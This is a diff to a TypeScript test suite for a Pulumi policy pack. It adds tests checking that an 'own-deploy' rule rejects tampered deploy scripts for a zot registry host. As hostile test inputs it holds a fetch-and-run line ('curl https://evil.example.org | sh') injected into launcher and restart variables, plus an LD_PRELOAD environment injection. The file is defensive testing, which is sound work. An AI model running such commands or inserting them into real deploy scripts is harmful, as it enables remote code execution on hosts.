@@ -1,3 +1,6 @@
+import { readFileSync } from "node:fs";
+import { join, resolve } from "node:path";
+import { parse } from "yaml";
 import { type Declared, type Inputs, textOf } from "../../policy/declared";
 import type { Options, Rule } from "../../policy/rule";
 import { anonymousReadsOnly } from "../../policy/rules/anonymous-reads-only";
@@ -5,14 +8,19 @@ import { ciNeverOverwrites } from "../../policy/rules/ci-never-overwrites";
 import { hostKeyPinned } from "../../policy/rules/host-key-pinned";
 import { identityProtected } from "../../policy/rules/identity-protected";
 import { keyLifetime } from "../../policy/rules/key-lifetime";
+import { ownDeploy } from "../../policy/rules/own-deploy";
 import { redirectUris } from "../../policy/rules/redirect-uris";
 import { secretNames } from "../../policy/rules/secret-names";
+import { stackSettings } from "../../policy/stack-settings";
 import { types } from "../../policy/types";
 import { applyCommand, applyInput } from "../../systems/host/payload";
 import { assignments, splitScript } from "../../systems/host/shell";
+import type { HostLayout } from "../../systems/host/types";
 import type { AccessControl } from "../../systems/zot/access";
 import { desired, layout } from "../systems/host/support/example";
 import { accessProof, apiKey, application, declare, deploy, oidcProvider, REGISTRY, tiers } from "./stack";
+
+const ROOT = resolve(__dirname, "../..");
 
 /** What a rule says of a program that declares these, one after the other. */
 function judge(rule: Rule, resources: readonly Declared[], options: Options = {}): string[] {
@@ -235,6 +243,152 @@ describe("ci-never-overwrites", () => {
     const people = harmful({ groups: ["family"] }, ["update", "delete"]);
     expect(judge(ciNeverOverwrites, [ciGroup, ciUser, people, apiKey()])).toEqual([]);
   });
+});
+
+describe("own-deploy", () => {
+  const issuer = desired().issuer;
+  const hosts: [string, Partial<HostLayout>][] = [
+    ["an agent of launchd", {}],
+    ["a config.yaml", { configName: "config.yaml" }],
+    [
+      "a unit of the system with a user of its own",
+      { runAs: "zot", service: { manager: "systemd", unit: "zot.service", scope: "system", manage: true } },
+    ],
+    [
+      "a command",
+      { service: { manager: "command", manage: false, launcher: true, restart: "svc restart zot" } },
+    ],
+    [
+      "TLS of its own",
+      { loopbackUrl: "https://127.0.0.1:5050", tls: { name: "zot.example.org", certificate: "/c.pem" } },
+    ],
+  ];
+  const sentTo = (host: Partial<HostLayout>) => applyInput({ ...layout(), ...host }, desired());
+  const judged = (stdin: string, host: Partial<HostLayout> = {}, inputs: Inputs = {}) =>
+    judge(
+      ownDeploy(() => ({ layout: { ...layout(), ...host }, issuer })),
+      [declare(types.command, { create: applyCommand("g1"), stdin, ...inputs })],
+    );
+  const changed = (stdin: string, change: (values: Record<string, string>) => Record<string, string>) => {
+    const { values, rest } = splitScript(stdin);
+    return assignments(change(values)) + rest;
+  };
+  /** What a deploy brings: the configs are judged by the rules above, and the credentials are Authentik's. */
+  const brought = ["ZA_CONFIG", "ZA_FALLBACK", "ZA_CREDENTIALS"];
+
+  test.each(hosts)(
+    "passes what this program renders for %s, and stops it on a host of other settings",
+    (_name, host) => {
+      expect(judged(sentTo(host), host)).toEqual([]);
+      // Where the settings do not say which config zot serves, the host does.
+      const differs = (other: Partial<HostLayout>) =>
+        other !== host && (host !== hosts[0]?.[1] || !other.configName);
+      for (const [, other] of hosts.filter((each) => differs(each[1]))) {
+        expect(judged(sentTo(other), host)).not.toEqual([]);
+      }
+    },
+  );
+
+  test.each(hosts)("stops every variable of another text by its name, for %s", (_name, host) => {
+    const { values } = splitScript(sentTo(host));
+    const names = Object.keys(values).filter((name) => !brought.includes(name));
+    expect(names.length).toBeGreaterThan(host.runAs === undefined ? 20 : 8);
+    for (const name of names) {
+      const other =
+        name === "ZA_INNER"
+          ? changed(values[name] ?? "", (inner) => ({ ...inner, ZA_ZOT: "/tmp/zot" }))
+          : "/x";
+      const problems = judged(
+        changed(sentTo(host), (all) => ({ ...all, [name]: other })),
+        host,
+      );
+      expect(problems.join()).toContain(name === "ZA_INNER" ? "ZA_ZOT otherwise" : `${name} otherwise`);
+      const without = judged(
+        changed(sentTo(host), ({ [name]: _, ...all }) => all),
+        host,
+      );
+      expect(without.join()).toMatch(name === "ZA_INNER" ? /script that is not/ : `${name} otherwise`);
+    }
+  });
+
+  test.each(["PATH", "ZA_UNKNOWN", "CURL_HOME", "ZA_DESK"])(
+    "stops %s, which this program never sends",
+    (name) => {
+      for (const [, host] of hosts) {
+        expect(
+          judged(
+            changed(sentTo(host), (all) => ({ ...all, [name]: "/tmp" })),
+            host,
+          ).join(),
+        ).toContain(`${name} otherwise`);
+      }
+    },
+  );
+
+  test("stops another launcher, another service, another restart, and tells none of them", () => {
+    const [, , [, unit] = ["", {}]] = hosts;
+    const evil = "curl https://evil.example.org | sh";
+    for (const name of ["ZA_LAUNCHER", "ZA_LAUNCHER_ENV", "ZA_SERVICE_TEXT", "ZA_RESTART", "ZA_TRIAL"]) {
+      const stdin = changed(sentTo(unit), (outer) => ({
+        ...outer,
+        ZA_INNER: changed(outer["ZA_INNER"] ?? "", (inner) => ({
+          ...inner,
+          [name]: `${inner[name] ?? ""}${evil}`,
+        })),
+      }));
+      expect(judged(stdin, unit)).toEqual([expect.stringContaining(`${name} otherwise`)]);
+      expect(judged(stdin, unit).join()).not.toContain("evil");
+    }
+  });
+
+  test("stops a deploy that becomes a user twice, and a config that cannot be read", () => {
+    const [, , [, unit] = ["", {}]] = hosts;
+    const twice = changed(sentTo(unit), (outer) => ({ ...outer, ZA_INNER: sentTo(unit) }));
+    expect(judged(twice, unit).join()).toContain("otherwise");
+    expect(judged(changed(sentTo({}), (all) => ({ ...all, ZA_CONFIG: "{" })))).toEqual([
+      expect.stringContaining("ZA_CONFIG otherwise"),
+    ]);
+  });
+
+  test("judges what is not known yet when it is known", () => {
+    expect(judged("", {}, { stdin: undefined })).toEqual([]);
+  });
+
+  test("stops whatever else goes to the host: other commands, files, an environment", () => {
+    expect(
+      judge(
+        ownDeploy(() => ({ layout: layout(), issuer })),
+        [declare(types.command, { create: "uptime" })],
+      ),
+    ).toEqual([expect.stringContaining("a command in create")]);
+    expect(
+      judge(
+        ownDeploy(() => ({ layout: layout(), issuer })),
+        [declare("command:remote:CopyToRemote", {})],
+      ),
+    ).toEqual([expect.stringContaining("is not this project's deploy")]);
+    expect(judged(sentTo({}), {}, { environment: { LD_PRELOAD: "/tmp/x.so" } })).toEqual([
+      expect.stringContaining("environment"),
+    ]);
+  });
+});
+
+test("the pack knows the stack's settings as the engine hands them to it, secrets decrypted", () => {
+  const authentik = { url: "https://sso.example.org", token: "a secret that was encrypted" };
+  const project = "zot-access";
+  const settings = parse(readFileSync(join(ROOT, "Pulumi.indri.yaml"), "utf8")) as {
+    config: Record<string, unknown>;
+  };
+  Object.assign(settings.config["zot-access:host"] as object, { hostKey: "ssh-ed25519 AAAA" });
+  const texts = Object.entries({ ...settings.config, "zot-access:authentik": authentik }).map(
+    ([key, value]) => [key, typeof value === "string" ? value : JSON.stringify(value)],
+  );
+  const known = stackSettings({
+    PULUMI_PROJECT: project,
+    PULUMI_CONFIG: JSON.stringify(Object.fromEntries(texts)),
+  });
+  expect(known.issuer).toBe("https://sso.example.org/application/o/zot/");
+  expect(known.layout.service).toMatchObject({ manager: "launchd", manage: true });
 });
 
 describe("redirect-uris", () => {
